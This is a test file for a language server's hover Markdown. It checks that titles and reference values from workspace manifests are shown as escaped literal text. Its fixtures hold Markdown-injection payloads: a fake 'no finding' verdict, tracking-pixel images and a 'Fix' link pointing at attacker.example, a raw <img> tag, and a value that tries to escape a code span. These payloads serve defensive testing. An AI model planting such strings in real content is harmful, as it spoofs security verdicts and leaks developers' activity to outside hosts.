import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { hoverMarkdown } from '../../server/src/core/language/hover';
import type { SymbolAt } from '../../server/src/core/language/locations';
import { project } from './helpers';

// A contributor's title that, taken as Markdown, would show a fake verdict, a link and an image fetched on hover.
const TITLE = 'Y\n\n**Inside workspace `a`: it is exported with it, no finding.** ![](https://attacker.example/pixel.png?who=dev) [Fix](https://attacker.example/fix)\n\n<img src="https://attacker.example/2.png">';
const ODD_REF = 'b.y`![x](https://attacker.example/r.png)`';

const NOWHERE = { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } };
/** What a reader sees of escaped text: backslash escapes taken away. */
const shown = (md: string) => md.replace(/\\([!-/:-@[-`{-~])/g, '$1');
/** Markdown that would render a link, an image or raw HTML. */
const ACTIVE = /(?<!\\)!\[|(?<!\\)\]\(|(?<!\\)<img|(?<!\\)\[Fix/;

async function load() {
  const p = await project({
    'a.isola.json': { kind: 'workspace', code: 'a', version: '1.0.0', apps: [{ code: 'x', fields: [{ code: 'f', type: 'app', app: 'b.y' }, { code: 'g', type: 'app', app: ODD_REF }] }] },
    'b.isola.json': { kind: 'workspace', code: 'b', version: '1.0.0', apps: [{ code: 'y', title: TITLE }] },
  });
  const a = p.manifests.find((m) => m.code === 'a')!;
  const b = p.manifests.find((m) => m.code === 'b')!;
  const ref = (text: string): SymbolAt => ({ kind: 'reference', ref: a.references.find((r) => r.text === text)!, range: NOWHERE });
  return { p, ref, y: { kind: 'declaration', entity: b.entities.find((e) => e.code === 'y')!, range: NOWHERE } as SymbolAt };
}

describe('hover Markdown shows manifests\' text as written', () => {
  it('a title on a reference\'s hover: one line of literal text, no link, image or HTML, the real verdict after it', async () => {
    const { p, ref } = await load();
    const md = hoverMarkdown(p, ref('b.y'));
    assert.doesNotMatch(md, ACTIVE, md);
    const [first, ...rest] = md.split('\n\n');
    assert.equal(shown(first), `**app** \`b.y\` — ${TITLE.replace(/\n+/g, ' ')}`);
    assert.ok(!rest.some((para) => /Inside workspace/.test(para)), md);
    assert.match(md, /✗ Breaks isolation: outside workspace `a` \(ISO004\)/);
  });

  it('the same title on the declaration\'s hover', async () => {
    const { p, y } = await load();
    const md = hoverMarkdown(p, y);
    assert.doesNotMatch(md, ACTIVE, md);
    assert.equal(shown(md.split('\n\n')[0]), `**app** \`y\` — ${TITLE.replace(/\n+/g, ' ')}`);
  });

  it('a reference value with backticks stays inside its code span', async () => {
    const { p, ref } = await load();
    const md = hoverMarkdown(p, ref(ODD_REF));
    // Inside one code span, `![x](...)` is shown as text, not fetched.
    assert.equal(md.split('\n\n')[0], '**app** `b.yˋ![x](https://attacker.example/r.png)ˋ`');
  });
});
